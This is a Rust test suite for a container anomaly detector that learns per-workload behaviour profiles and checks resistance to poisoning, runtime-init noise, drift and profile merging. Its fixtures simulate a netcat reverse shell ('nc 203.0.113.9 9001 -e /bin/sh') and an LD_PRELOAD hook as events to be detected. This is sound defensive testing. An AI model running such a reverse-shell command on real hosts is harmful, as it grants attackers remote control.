use super::*;
use crate::detector::{Detector, Stage, WorkloadBy};
use crate::rules::RuleSet;
use crate::store::ProfileStore;
use kestrel_core::{ContainerRef, EVENT_SCHEMA};

const SEC: u64 = 1_000_000_000;

/// Builds events of one container.
struct Box_ {
    id: String,
    t: u64,
    pid: u32,
}

impl Box_ {
    fn new(id: &str, t: u64) -> Box_ {
        Box_ { id: id.into(), t, pid: 100 }
    }

    fn ev(&mut self, pid: u32, comm: &str, kind: EventKind) -> Event {
        self.t += 1_000_000;
        Event {
            schema: EVENT_SCHEMA.into(),
            time_ns: self.t,
            pid,
            tid: pid,
            comm: comm.into(),
            cgroup_id: 1,
            container: Some(
                ContainerRef {
                    id: self.id.clone(),
                    runtime: "runc".into(),
                    image: Some("web:1".into()),
                    ..Default::default()
                }
                .into(),
            ),
            process: None,
            kind,
        }
    }

    fn exec(&mut self, parent: &str, ppid: u32, argv: &[&str]) -> Event {
        self.pid += 1;
        let comm = argv[0].rsplit('/').next().unwrap_or("").to_string();
        let pid = self.pid;
        self.ev(pid, &comm, EventKind::exec_of(ppid, parent, argv))
    }

    /// An exec of a program from `exe` other than its argv[0] (a descriptor, `/proc/self/exe`).
    fn exec_from(&mut self, exe: &str, parent: &str, ppid: u32, argv: &[&str]) -> Event {
        let mut e = self.exec(parent, ppid, argv);
        let EventKind::Exec { exe: path, .. } = &mut e.kind else { unreachable!() };
        *path = exe.into();
        e
    }

    /// A web server's normal work: nginx, a health check, writes to its log, an accept, its calls.
    fn normal(&mut self) -> Vec<Event> {
        let mut v = vec![self.exec("runc", 1, &["/usr/sbin/nginx", "-g", "daemon off;"])];
        let nginx = self.pid;
        v.push(self.ev(nginx, "nginx", EventKind::Open { path: "/var/log/nginx/access.log".into(), flags: 0o2101 }));
        v.push(self.ev(nginx, "nginx", EventKind::Accept { from: sock("127.0.0.1", 40000), port: Some(8080) }));
        v.push(self.exec("runc", 1, &["/bin/sh", "-c", "wget -q http://127.0.0.1:8080/health"]));
        v.push(self.exec("sh", self.pid, &["/usr/bin/wget", "-q", "http://127.0.0.1:8080/health"]));
        v.push(self.ev(self.pid, "wget", EventKind::Connect { to: sock("127.0.0.1", 8080) }));
        for _ in 0..20 {
            // epoll_wait, accept4, recvfrom, openat, fstat, sendfile, write, close
            v.push(self.ev(
                nginx,
                "nginx",
                EventKind::Syscalls { ids: vec![232, 288, 45, 257, 5, 40, 1, 3, 232, 288, 45, 257, 5, 40, 1, 3] },
            ));
        }
        v
    }

    /// A reverse shell: nc connects out and runs a shell; its calls dup the socket.
    fn reverse_shell(&mut self) -> Vec<Event> {
        let mut v = vec![self.exec("runc", 1, &["/bin/nc", "203.0.113.9", "9001", "-e", "/bin/sh"])];
        let nc = self.pid;
        v.push(self.ev(nc, "nc", EventKind::Connect { to: sock("203.0.113.9", 9001) }));
        v.push(self.ev(nc, "nc", EventKind::Syscalls { ids: REVERSE_SHELL_CALLS.to_vec() }));
        v.push(self.exec("nc", nc, &["/bin/sh"]));
        v.push(self.exec("sh", self.pid, &["/usr/bin/id"]));
        v
    }
}

/// What a reverse shell's thread calls: socket, connect, dup2 ×3, execve, dup2 ×2, execve, socket, connect, dup2,
/// then the new program's start (brk, mmap, access, openat, fstat, mmap, close).
const REVERSE_SHELL_CALLS: &[u16] = &[41, 42, 33, 33, 33, 59, 33, 33, 59, 41, 42, 33, 12, 9, 21, 257, 5, 9, 3];

fn sock(addr: &str, port: u16) -> SockAddr {
    SockAddr { family: "inet".into(), addr: addr.into(), port, proto: None }
}

fn model_only(profiles: Vec<Profile>, stage: Stage) -> Detector {
    Detector::new(RuleSet::default().compile(), profiles, Policy::default(), WorkloadBy::Image, stage)
}

/// Learns from the given containers' events (in learn stage) and returns the calibrated profiles.
fn learn(policy: Policy, streams: Vec<Vec<Event>>) -> Vec<Profile> {
    let mut d = Detector::new(RuleSet::default().compile(), vec![], policy, WorkloadBy::Image, Stage::Learn);
    for s in streams {
        for e in s {
            assert!(d.process(&e).is_empty());
        }
    }
    let mut ps = d.into_profiles();
    for p in &mut ps {
        p.set_mode(Mode::Monitor, 0);
    }
    ps
}

fn model_alerts(d: &mut Detector, events: &[Event]) -> Vec<Alert> {
    events.iter().flat_map(|e| d.process(e)).filter(|a| matches!(a.source, AlertSource::Model { .. })).collect()
}

#[test]
fn a_behaviour_needs_k_containers_and_the_normal_stays_quiet() {
    let mut a = Box_::new("a", 0);
    let mut b = Box_::new("b", 0);
    let mut c = Box_::new("c", 0);
    // `c` alone ran a cron job while learning.
    let mut c_events = c.normal();
    c_events.push(c.exec("runc", 1, &["/usr/bin/logrotate", "/etc/logrotate.conf"]));
    let ps = learn(Policy::default(), vec![a.normal(), b.normal(), c_events]);
    assert_eq!(ps.len(), 1);
    let p = &ps[0];
    assert_eq!(p.workload, "web:1");
    assert_eq!(p.containers.len(), 3);
    assert!(p.knows(View::Process, "exec /usr/sbin/nginx"));
    assert!(!p.knows(View::Process, "exec /usr/bin/logrotate"), "seen in one container only");
    assert!(p.syscall_threshold.is_some());

    // A fourth replica doing the same normal work: no alert.
    let mut d = model_only(ps, Stage::Detect);
    let mut e = Box_::new("e", 10 * SEC);
    assert!(model_alerts(&mut d, &e.normal()).is_empty());
    // logrotate: never trusted, so it alerts, and says why.
    let a = model_alerts(&mut d, &[e.exec("runc", 1, &["/usr/bin/logrotate", "/etc/logrotate.conf"])]);
    assert_eq!(a.len(), 1);
    assert!(a[0].explanation[0].contains("too few containers"), "{:?}", a[0].explanation);
}

#[test]
fn the_runtimes_init_making_the_containers_directories_is_not_the_workload() {
    // runc's init makes /dev directories (and removes dev/ptmx) below the bundle's host path, which names the
    // container, and crun's makes /dev and /sys/fs/cgroup ones: different in every replica, so never trusted —
    // it must not reach the profile. The workload's own mkdir and removal do.
    let ps = learn(Policy::default(), vec![Box_::new("a", 0).normal(), Box_::new("b", 0).normal()]);
    let mut d = model_only(ps, Stage::Detect);
    let mut e = Box_::new("e", 10 * SEC);
    assert!(model_alerts(&mut d, &e.normal()).is_empty());
    let mkdir = |path: &str| EventKind::Mkdir { call: "mkdirat".into(), path: path.into(), dirfd: false, mode: 0o755 };
    let init = e.ev(7, "runc:[2:INIT]", mkdir("/run/bundles/web-e/rootfs/dev/pts"));
    assert!(model_alerts(&mut d, &[init]).is_empty());
    let rm = |path: &str| EventKind::Unlink { call: "unlinkat".into(), path: path.into(), dirfd: false, dir: false };
    let init = e.ev(7, "runc:[2:INIT]", rm("/run/bundles/web-e/rootfs/dev/ptmx"));
    assert!(model_alerts(&mut d, &[init]).is_empty());
    let init = e.ev(7, "crun", mkdir("/var/lib/containers/storage/overlay/0f3a/merged/sys/fs/cgroup/pids"));
    assert!(model_alerts(&mut d, &[init]).is_empty());
    // runc's init before it names itself (`exe`, re-executed by runc) may already be in the container's cgroup:
    // the loader's calls, its binary bind-mounted below the container's state directory and that file removed.
    let mut by_runc = |kind| {
        let mut x = e.ev(6, "exe", kind);
        x.process = Some(kestrel_core::ProcessRef { parent_exe: Some("/usr/sbin/runc".into()), ..Default::default() });
        x
    };
    let state = "/run/runc/web-e/runc.OXa1KA";
    let clone =
        EventKind::Mount { source: "/proc/self/exe".into(), target: state.into(), fstype: String::new(), flags: 4096 };
    let loader = EventKind::Syscalls { ids: vec![12, 9, 21, 257, 262, 9, 3, 257, 0, 262, 9, 9, 3, 158, 218, 273] };
    // (runc 1.1's try_bindfd: mkstemp of the file, the bind mount on it, its removal.)
    let template = EventKind::Open { path: state.into(), flags: 0o302 };
    let setup = [by_runc(loader.clone()), by_runc(template.clone()), by_runc(clone.clone()), by_runc(rm(state))];
    assert!(model_alerts(&mut d, &setup).is_empty(), "{:#?}", model_alerts(&mut d, &setup));
    // Its exec may be over before the sensor read the process: no parent known. The clone file in the state
    // directory of this very container still names it; a removal elsewhere, or in another container's directory,
    // does not.
    let unknown = |x: &mut Box_, kind| {
        let mut ev = x.ev(16, "exe", kind);
        ev.process = None;
        ev
    };
    let ours = "/run/runc/e/runc.zVpKfd";
    let made = EventKind::Open { path: ours.into(), flags: 0o302 };
    let setup = [unknown(&mut e, made), unknown(&mut e, rm(ours))];
    assert!(model_alerts(&mut d, &setup).is_empty());
    for elsewhere in ["/run/runc/other/runc.zVpKfd", "/srv/www/runc.zVpKfd", "/run/runc/e/runc.zVpKfd.bak"] {
        let a = model_alerts(&mut d, &[unknown(&mut e, rm(elsewhere))]);
        assert!(a.iter().any(|a| a.title.contains("remove in")), "{elsewhere}: {a:#?}");
    }
    let mut own = e.ev(6, "exe", clone);
    own.process = Some(kestrel_core::ProcessRef { parent_exe: Some("/usr/sbin/nginx".into()), ..Default::default() });
    let a = model_alerts(&mut d, &[own]);
    assert!(a.iter().any(|a| a.title.contains("mounts")), "{a:#?}");
    let mut own = e.ev(6, "exe", template);
    own.process = Some(kestrel_core::ProcessRef { parent_exe: Some("/usr/sbin/nginx".into()), ..Default::default() });
    let a = model_alerts(&mut d, &[own]);
    assert!(a.iter().any(|a| a.title.contains("write in /run/runc/web-e")), "{a:#?}");
    // The mounts the init makes for the container are its configuration: a replica started with a host path
    // bound in that no learned replica had is a deviation.
    let bind = EventKind::Mount {
        source: "/etc".into(),
        target: "/run/bundles/web-e/rootfs/host-etc".into(),
        fstype: String::new(),
        flags: 4096,
    };
    let a = model_alerts(&mut d, &[e.ev(7, "runc:[2:INIT]", bind)]);
    assert!(a.iter().any(|a| a.title.contains("mounts")), "{a:#?}");
    // So are the links it makes in the container's /dev; a link the workload makes is its own.
    let link = |target: &str, path: &str| EventKind::Link {
        call: "symlinkat".into(),
        target: target.into(),
        path: path.into(),
        dirfd: false,
        sensitive: false,
    };
    let init = e.ev(7, "runc:[2:INIT]", link("/proc/self/fd/0", "/run/bundles/web-e/rootfs/dev/stdin"));
    assert!(model_alerts(&mut d, &[init]).is_empty());
    let a = model_alerts(&mut d, &[e.ev(8, "nginx", link("/tmp/.x", "/usr/local/bin/ls"))]);
    assert!(a.iter().any(|a| a.title.contains("link in /usr/local/bin")), "{a:#?}");
    // `crun exec` joining the container's namespaces (from inside its cgroup) is the runtime's too; a setns by
    // the workload's own program is not.
    assert!(model_alerts(&mut d, &[e.ev(9, "crun", EventKind::Setns { nstype: 0 })]).is_empty());
    let a = model_alerts(&mut d, &[e.ev(10, "nsenter", EventKind::Setns { nstype: 0 })]);
    assert!(a.iter().any(|a| a.title.contains("setns")), "{a:#?}");
    let own = e.ev(8, "nginx", mkdir("/var/cache/nginx/x"));
    let a = model_alerts(&mut d, &[own]);
    assert!(a.iter().any(|a| a.title.contains("make a directory in /var/cache/nginx")), "{a:#?}");
    let own = e.ev(8, "nginx", rm("/var/log/nginx/access.log"));
    let a = model_alerts(&mut d, &[own]);
    assert!(a.iter().any(|a| a.title.contains("remove in /var/log/nginx")), "{a:#?}");
    // A log cut in place, never done while learning.
    let cut = EventKind::Truncate {
        call: "ftruncate".into(),
        path: "/var/log/nginx/error.log".into(),
        size_before: Some(4096),
        length: 0,
    };
    let a = model_alerts(&mut d, &[e.ev(8, "truncate", cut)]);
    assert!(a.iter().any(|a| a.title.contains("truncate in /var/log/nginx")), "{a:#?}");
}

#[test]
fn a_workload_process_that_takes_the_runtimes_name_is_still_the_workload() {
    // prctl(PR_SET_NAME, "runc:[2:INIT]") by a program of the container, or by a child it forked: its calls,
    // directories and namespace joins still reach the profile, as the same events under its own name do.
    let ps = learn(Policy::default(), vec![Box_::new("a", 0).normal(), Box_::new("b", 0).normal()]);
    let mut d = model_only(ps, Stage::Detect);
    let mut e = Box_::new("e", 10 * SEC);
    assert!(model_alerts(&mut d, &e.normal()).is_empty());
    let nginx = e.pid - 2;
    // Never seen from this workload.
    let calls = EventKind::Syscalls { ids: REVERSE_SHELL_CALLS.to_vec() };
    let renamed = e.ev(nginx, "runc:[2:INIT]", calls.clone());
    let a = model_alerts(&mut d, &[renamed]);
    assert!(a.iter().any(|a| a.title.contains("system-call")), "{a:#?}");
    // A child it forked (never exec'ing) takes the name: the same.
    let mut child = e.ev(nginx + 10, "runc:[2:INIT]", calls);
    child.process = Some(kestrel_core::ProcessRef { ppid: Some(nginx), ..Default::default() });
    let a = model_alerts(&mut d, &[child]);
    assert!(a.iter().any(|a| a.title.contains("system-call")), "{a:#?}");
    let mkdir =
        EventKind::Mkdir { call: "mkdirat".into(), path: "/var/cache/nginx/x".into(), dirfd: false, mode: 0o755 };
    let a = model_alerts(&mut d, &[e.ev(nginx, "crun", mkdir)]);
    assert!(a.iter().any(|a| a.title.contains("make a directory in /var/cache/nginx")), "{a:#?}");
    let a = model_alerts(&mut d, &[e.ev(nginx, "runc:[1:CHILD]", EventKind::Setns { nstype: 0 })]);
    assert!(a.iter().any(|a| a.title.contains("setns")), "{a:#?}");
    // The runtime's own init (never seen exec'ing, its parent outside the container) stays out of it.
    let init = e.ev(7, "runc:[2:INIT]", EventKind::Syscalls { ids: REVERSE_SHELL_CALLS.to_vec() });
    assert!(model_alerts(&mut d, &[init]).is_empty());
}

#[test]
fn a_program_run_through_a_descriptor_is_named_by_its_argv0_and_runc_init_is_the_runtime() {
    // A program of the container run through a descriptor; runc's init, started by the runtime.
    let by_fd = |b: &mut Box_, parent: &str, ppid: u32, argv: &[&str], fd: u32| {
        b.exec_from(&format!("/dev/fd/{fd}"), parent, ppid, argv)
    };
    let (mut a, mut b, mut c) = (Box_::new("a", 0), Box_::new("b", 0), Box_::new("c", 0));
    let mut learned = Vec::new();
    for (i, boxed) in [&mut a, &mut b, &mut c].into_iter().enumerate() {
        let mut events = boxed.normal();
        let wget = boxed.pid;
        events.push(by_fd(boxed, "wget", wget, &["helper"], 5 + i as u32 % 2));
        learned.push(events);
    }
    let ps = learn(Policy::default(), learned);
    assert!(ps[0].knows(View::Process, "exec helper (via a file descriptor)"));
    let mut d = model_only(ps, Stage::Detect);
    let mut e = Box_::new("e", 10 * SEC);
    let mut events = e.normal();
    let wget = e.pid;
    // The same program from another descriptor number is the same behaviour; runc's init entering the
    // container (never seen while learning) is the runtime's, not the workload's.
    events.push(by_fd(&mut e, "wget", wget, &["helper"], 7));
    events.push(by_fd(&mut e, "runc", 1, &["runc", "init"], 9));
    assert!(model_alerts(&mut d, &events).is_empty());
    // A program the container never ran through a descriptor still alerts.
    assert_eq!(model_alerts(&mut d, &[by_fd(&mut e, "wget", wget, &["payload"], 7)]).len(), 1);
}

#[test]
fn runc_init_seen_starting_inside_the_container_stays_the_runtime() {
    // runc's init is started from outside the container and races runc moving it into the container's cgroup:
    // sometimes the sensor sees its exec there. Its calls under the name runc:[0:PARENT] are still the runtime's.
    let ps = learn(Policy::default(), vec![Box_::new("a", 0).normal(), Box_::new("b", 0).normal()]);
    let mut d = model_only(ps, Stage::Detect);
    let mut e = Box_::new("e", 10 * SEC);
    assert!(model_alerts(&mut d, &e.normal()).is_empty());
    let calls = EventKind::Syscalls { ids: vec![4, 5, 21, 257, 262, 5, 41, 42, 33, 33, 33, 41, 42, 3] };
    let init = e.exec_from("/proc/self/exe", "runc", 1, &["runc", "init"]);
    let pid = init.pid;
    let parent = e.ev(pid, "runc:[0:PARENT]", calls.clone());
    assert!(model_alerts(&mut d, &[init, parent]).is_empty());
    // Its children, forked and never exec'ing, are the runtime too (runc:[1:CHILD], runc:[2:INIT]; the sensor
    // says whose children they are).
    let mut child = e.ev(pid + 1, "runc:[1:CHILD]", calls.clone());
    child.process = Some(kestrel_core::ProcessRef { ppid: Some(pid), ..Default::default() });
    assert!(model_alerts(&mut d, &[child]).is_empty());
    // A program of the container doing the same (its own binary run as `runc init`, then renamed) is not.
    let shell = e.pid;
    let fake = e.exec_from("/proc/self/exe", "sh", shell, &["runc", "init"]);
    let pid = fake.pid;
    let renamed = e.ev(pid, "runc:[0:PARENT]", calls);
    let a = model_alerts(&mut d, &[fake, renamed]);
    assert!(a.iter().any(|a| a.title.contains("system-call")), "{a:#?}");
    // …nor are its children (calls of their own: what was told once is not told again).
    let calls = EventKind::Syscalls { ids: vec![41, 33, 33, 42, 5, 262, 257, 21, 5, 4, 41, 42] };
    let mut child = e.ev(pid + 1, "runc:[1:CHILD]", calls);
    child.process = Some(kestrel_core::ProcessRef { ppid: Some(pid), ..Default::default() });
    let a = model_alerts(&mut d, &[child]);
    assert!(a.iter().any(|a| a.title.contains("system-call")), "{a:#?}");
}

#[test]
fn the_libraries_runc_init_maps_inside_the_container_are_the_runtimes() {
    // `runc init`, exec'd from a copy of runc (a descriptor), sometimes enters the container's cgroup before its
    // loader maps libseccomp and libc: those mappings are the runtime's code, not the workload's, in a profile that
    // learned mappings. A program of the container that takes runc's name and maps a library is judged.
    let map = |b: &mut Box_, pid, comm: &str, path: &str| {
        b.ev(pid, comm, EventKind::Mmap { path: path.into(), prot: 5, memfd: false, deleted: false, file: None })
    };
    let streams = ["a", "b", "c"].map(|id| {
        let mut b = Box_::new(id, 0);
        let mut v = b.normal();
        let nginx = b.pid - 2;
        v.push(map(&mut b, nginx, "nginx", "/usr/lib/x86_64-linux-gnu/libc.so.6"));
        v
    });
    let ps = learn(Policy::default(), streams.to_vec());
    assert!(ps[0].maps);
    let mut d = model_only(ps, Stage::Detect);
    let mut e = Box_::new("e", 10 * SEC);
    assert!(model_alerts(&mut d, &e.normal()).is_empty());
    let init = e.exec_from("/dev/fd/6", "runc", 1, &["runc", "init"]);
    let pid = init.pid;
    let seccomp = map(&mut e, pid, "runc", "/usr/lib/x86_64-linux-gnu/libseccomp.so.2.5.4");
    let libc = map(&mut e, pid, "runc", "/usr/lib/x86_64-linux-gnu/libc.so.6");
    let a = model_alerts(&mut d, &[init, seccomp, libc]);
    assert!(a.is_empty(), "{a:#?}");
    let shell = e.pid;
    let fake = e.exec_from("/tmp/runc", "runc", shell, &["runc", "init"]);
    let pid = fake.pid;
    let a = model_alerts(&mut d, &[fake, map(&mut e, pid, "runc", "/tmp/.libseccomp.so")]);
    assert!(a.iter().any(|a| a.title.contains("maps code in /tmp")), "{a:#?}");
}

#[test]
fn a_known_program_with_a_preloaded_library_is_a_new_behaviour() {
    let (mut a, mut b, mut c) = (Box_::new("a", 0), Box_::new("b", 0), Box_::new("c", 0));
    let ps = learn(Policy::default(), vec![a.normal(), b.normal(), c.normal()]);
    let mut d = model_only(ps, Stage::Detect);
    let mut e = Box_::new("e", 10 * SEC);
    assert!(model_alerts(&mut d, &e.normal()).is_empty());
    let mut run = e.exec("runc", 1, &["/usr/bin/wget", "-q", "http://127.0.0.1:8080/health"]);
    let EventKind::Exec { env, .. } = &mut run.kind else { unreachable!() };
    *env = vec!["HOME".into(), "LD_PRELOAD=/dev/shm/.hook.so".into()];
    let a = model_alerts(&mut d, &[run]);
    assert_eq!(a.len(), 1);
    assert!(
        a[0].explanation.iter().any(|x| x.contains("exec with LD_PRELOAD=/dev/shm/.hook.so")),
        "{:?}",
        a[0].explanation
    );
}

/// One replica that makes up a new behaviour and new call sequences with every event — an attacker filling the
/// profile while it learns, or a program naming its temporary files at random — fills at most a quarter of either
/// table: what the other replicas do after it is still learned, and a fresh replica doing it raises nothing.
#[test]
fn one_replica_cannot_fill_the_profile() {
    let mut evil = Box_::new("evil", 0);
    let mut flood = evil.normal();
    let nginx = evil.pid - 2;
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    let mut next = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for _ in 0..(MAX_BEHAVIOURS + 10_000) {
        let name: String = (0..12).map(|_| char::from(b'a' + (next() % 26) as u8)).collect();
        flood.push(evil.ev(nginx, "nginx", EventKind::Open { path: format!("/srv/{name}"), flags: 0 }));
    }
    for _ in 0..(MAX_GRAMS / 4_000 + 10) {
        let ids = (0..4_000).map(|_| (next() % 300) as u16).collect();
        flood.push(evil.ev(nginx, "nginx", EventKind::Syscalls { ids }));
    }
    // Then two honest replicas do something new: a file and a call sequence of their own.
    let fresh = |who: &mut Box_| {
        let mut v = who.normal();
        let nginx = who.pid - 2;
        v.push(who.ev(nginx, "nginx", EventKind::Open { path: "/etc/nginx/conf.d/site.conf".into(), flags: 0 }));
        v.push(who.ev(nginx, "nginx", EventKind::Syscalls { ids: [7, 7, 232, 7, 7, 232].repeat(5) }));
        v
    };
    let (mut a, mut b) = (Box_::new("a", 0), Box_::new("b", 0));
    let ps = learn(Policy::default(), vec![flood, fresh(&mut a), fresh(&mut b)]);
    let p = &ps[0];
    assert!(p.overflow > 0 && p.behaviours.len() < MAX_BEHAVIOURS / 2, "{} {}", p.overflow, p.behaviours.len());
    assert!(p.baseline().contains(&format!("; {} new behaviours or sequences not learned", p.overflow)));
    let mut d = model_only(ps, Stage::Detect);
    let alerts = model_alerts(&mut d, &fresh(&mut Box_::new("x", 100 * SEC)));
    assert!(alerts.is_empty(), "{alerts:#?}");
}

#[test]
fn a_reverse_shell_taught_by_one_poisoned_replica_is_still_caught() {
    // Three replicas learn; the attacker controls one of them during the whole learning period and runs
    // the reverse shell there again and again, to make it look normal.
    let mut a = Box_::new("a", 0);
    let mut b = Box_::new("b", 0);
    let mut evil = Box_::new("evil", 0);
    let mut poisoned = Vec::new();
    for _ in 0..50 {
        poisoned.extend(evil.normal());
        poisoned.extend(evil.reverse_shell());
    }
    let ps = learn(Policy::default(), vec![a.normal(), b.normal(), a.normal(), b.normal(), poisoned]);
    let p = &ps[0];
    assert!(p.behaviour(View::Process, "exec /bin/sh with parent nc").is_some_and(|b| b.count >= 50));
    assert!(!p.knows(View::Process, "exec /bin/sh with parent nc"));

    // Later, the reverse shell in a fresh replica: caught by the profile alone (no rules here).
    let mut d = model_only(ps, Stage::Detect);
    let mut x = Box_::new("x", 100 * SEC);
    assert!(model_alerts(&mut d, &x.normal()).is_empty());
    let alerts = model_alerts(&mut d, &x.reverse_shell());
    assert!(!alerts.is_empty());
    let text: Vec<String> = alerts.iter().flat_map(|a| a.explanation.clone()).collect();
    let text = text.join("\n");
    assert!(text.contains("`exec /bin/nc`"), "{text}");
    assert!(text.contains("`exec /bin/sh with parent nc`"), "{text}");
    assert!(text.contains("connect to public port 9001"), "{text}");
    assert!(text.contains("dup2→dup2"), "{text}");
    assert!(alerts.iter().any(|a| a.severity == Severity::High), "{alerts:#?}");
    assert!(alerts.iter().all(|a| a.workload.as_deref() == Some("web:1")));
    assert!(alerts.iter().all(|a| a.explanation.last().is_some_and(|l| l.starts_with("baseline: profile web:1 v1"))));

    // Without the k-replica rule (k = 1) the same poisoning would have worked: the rule is what protects.
    let mut a = Box_::new("a", 0);
    let mut evil = Box_::new("evil", 0);
    let mut poisoned = evil.normal();
    poisoned.extend(evil.reverse_shell());
    let ps = learn(Policy { k: 1, ..Policy::default() }, vec![a.normal(), poisoned]);
    let mut d = model_only(ps, Stage::Detect);
    let mut x = Box_::new("x", 100 * SEC);
    let process: Vec<_> =
        model_alerts(&mut d, &x.reverse_shell()).into_iter().filter(|a| a.title.contains("exec")).collect();
    assert!(process.is_empty(), "{process:#?}");
}

#[test]
fn a_single_replica_learns_over_time_windows() {
    let policy = Policy { window_ns: 10 * SEC, t: 3, ..Policy::default() };
    // One container; logrotate in two windows only, nginx in three.
    let mut a = Box_::new("a", 0);
    let mut events = Vec::new();
    for w in 0..3u64 {
        a.t = w * 10 * SEC;
        events.extend(a.normal());
        if w < 2 {
            events.push(a.exec("runc", 1, &["/usr/bin/logrotate"]));
        }
    }
    let ps = learn(policy, vec![events]);
    assert!(ps[0].knows(View::Process, "exec /usr/sbin/nginx"));
    assert!(!ps[0].knows(View::Process, "exec /usr/bin/logrotate"));
}

#[test]
fn federated_merge_of_three_nodes_resists_one_poisoned_node() {
    // Each node learns from its own two replicas; node 3's replicas both ran the reverse shell, so node 3
    // trusts it.
    let node = |poison: bool| {
        let mut a = Box_::new("a", 0);
        let mut b = Box_::new("b", 0);
        let (mut ea, mut eb) = (a.normal(), b.normal());
        if poison {
            ea.extend(a.reverse_shell());
            eb.extend(b.reverse_shell());
        }
        learn(Policy::default(), vec![ea, eb]).remove(0)
    };
    let (n1, n2, n3) = (node(false), node(false), node(true));
    assert!(n3.knows(View::Process, "exec /bin/sh with parent nc"));
    let merged = merge("web:1", &[("node-1", &n1), ("node-2", &n2), ("node-3", &n3)], 2);
    assert_eq!(merged.version, 2);
    assert!(merged.knows(View::Process, "exec /usr/sbin/nginx"));
    assert!(merged.knows(View::Network, "accept from loopback on port 8080"));
    assert!(!merged.knows(View::Process, "exec /bin/sh with parent nc"));
    assert!(!merged.knows(View::Network, "connect to public port 9001"));
    // Counts are the median node's times the nodes: node 3's volume does not dominate.
    let nginx = merged.behaviour(View::Process, "exec /usr/sbin/nginx").map(|b| b.count);
    assert_eq!(nginx, Some(3 * n1.behaviour(View::Process, "exec /usr/sbin/nginx").map_or(0, |b| b.count)));
    // The merge carries no raw events: its JSON has behaviours and grams only.
    let json = serde_json::to_string(&merged).unwrap();
    assert!(!json.contains("203.0.113.9") && !json.contains("time_ns"));
    // It detects.
    let mut d = model_only(vec![merged], Stage::Detect);
    let mut x = Box_::new("x", 100 * SEC);
    assert!(model_alerts(&mut d, &x.normal()).is_empty());
    assert!(!model_alerts(&mut d, &x.reverse_shell()).is_empty());
}

#[test]
fn merging_profiles_with_huge_counts_saturates() {
    // Another node's profile file is input: counts near the top of u64 must not wrap (or panic in a debug
    // build) when the merge adds or multiplies them.
    let mut a = Box_::new("a", 0);
    let mut b = Box_::new("b", 0);
    let mut p = learn(Policy::default(), vec![a.normal(), b.normal()]).remove(0);
    p.events = u64::MAX - 1;
    for b in &mut p.behaviours {
        b.count = u64::MAX / 2 + 1;
    }
    for g in &mut p.grams {
        g.n = u64::MAX / 2 + 1;
    }
    let merged = merge("web:1", &[("node-1", &p), ("node-2", &p), ("node-3", &p)], 2);
    assert_eq!(merged.events, u64::MAX);
    let nginx = merged.behaviour(View::Process, "exec /usr/sbin/nginx").map(|b| b.count);
    assert_eq!(nginx, Some(u64::MAX));
    assert!(merged.grams.iter().all(|g| g.n == u64::MAX));
}

#[test]
fn modes_promote_and_drift_relearns() {
    let policy = Policy {
        window_ns: 10 * SEC,
        min_learn_ns: 20 * SEC,
        stable_ns: 10 * SEC,
        protect_after_ns: Some(30 * SEC),
        drift_novel: 2,
        drift_windows: 2,
        drift: DriftPolicy::Relearn,
        ..Policy::default()
    };
    let mut d = Detector::new(RuleSet::default().compile(), vec![], policy, WorkloadBy::Image, Stage::Detect);
    let (mut a, mut b) = (Box_::new("a", 0), Box_::new("b", 0));
    // Learning: new things keep coming for 15 s, then only the known for 15 s more.
    for e in a.normal().into_iter().chain(b.normal()) {
        d.process(&e);
    }
    let mode = |d: &Detector| d.profiles().next().map(|p| p.mode);
    a.t = 15 * SEC;
    for e in a.normal() {
        d.process(&e);
    }
    assert_eq!(mode(&d), Some(Mode::Learn));
    a.t = 31 * SEC;
    for e in a.normal() {
        assert!(d.process(&e).is_empty());
    }
    assert_eq!(mode(&d), Some(Mode::Monitor));
    // 30 s of quiet monitoring: protect; alerts then carry the tag.
    a.t = 62 * SEC;
    for e in a.normal() {
        d.process(&e);
    }
    assert_eq!(mode(&d), Some(Mode::Protect));
    let alerts = d.process(&a.exec("runc", 1, &["/usr/bin/curl", "http://x"]));
    assert!(alerts.iter().any(|x| x.tags.contains(&"mode:protect".to_string())), "{alerts:#?}");
    // Drift: three new programs in each of two windows in a row (an image update) → relearn, version 2.
    for w in 0..2u64 {
        a.t = (80 + 10 * w) * SEC;
        for i in 0..3 {
            d.process(&a.exec("runc", 1, &[&format!("/usr/bin/new-{w}-{i}")]));
        }
    }
    let p = d.profiles().next().unwrap();
    assert_eq!((p.mode, p.version), (Mode::Learn, 2));
    assert!(p.knows(View::Process, "exec /usr/sbin/nginx"), "relearning keeps what was known");
}

#[test]
fn profiles_are_saved_versioned_and_rolled_back() {
    let dir = tempfile::tempdir().unwrap();
    let store = ProfileStore::new(dir.path().join("profiles"));
    assert!(store.load_all().unwrap().is_empty());
    let mut a = Box_::new("a", 0);
    let mut b = Box_::new("b", 0);
    let mut p = learn(Policy::default(), vec![a.normal(), b.normal()]).remove(0);
    store.save(&p).unwrap();
    p.relearn(5);
    p.set_mode(Mode::Protect, 6);
    store.save(&p).unwrap();
    assert_eq!(store.versions("web:1").unwrap(), [1, 2]);
    let now = store.load_all().unwrap();
    assert_eq!((now[0].version, now[0].mode), (2, Mode::Protect));
    assert!(now[0].knows(View::Process, "exec /usr/sbin/nginx"), "the index is rebuilt on load");
    let back = store.rollback("web:1", 1).unwrap();
    assert_eq!((back.version, back.mode), (1, Mode::Monitor));
    assert_eq!(store.load_all().unwrap()[0].version, 1);
    // A version not kept, or a workload with none, says what there is.
    let err = store.rollback("web:1", 9).unwrap_err().to_string();
    assert!(err.ends_with("no version 9 of \"web:1\" (kept: v1, v2)"), "{err}");
    let err = store.rollback("db", 1).unwrap_err().to_string();
    assert!(err.ends_with("no profile of workload \"db\" here"), "{err}");
    // A pipe where a profile would be is passed over (reading it would wait for ever), not a profile.
    let pipe = dir.path().join("profiles/pipe.json");
    assert!(std::process::Command::new("mkfifo").arg(&pipe).status().unwrap().success());
    let (tx, rx) = std::sync::mpsc::channel();
    let s = store.clone();
    std::thread::spawn(move || tx.send(s.load_all().map(|v| v.len()).map_err(|e| e.to_string())));
    let loaded = rx.recv_timeout(std::time::Duration::from_secs(30)).expect("loading waited on the pipe");
    assert_eq!(loaded, Ok(1));
    std::fs::remove_file(&pipe).unwrap();
    // A damaged file names itself.
    let bad = dir.path().join("profiles/x.json");
    std::fs::write(&bad, "{").unwrap();
    let err = store.load_all().unwrap_err().to_string();
    assert!(err.contains("x.json") && err.contains("not a profile"), "{err}");
}

#[test]
fn features_generalise_what_varies() {
    assert_eq!(
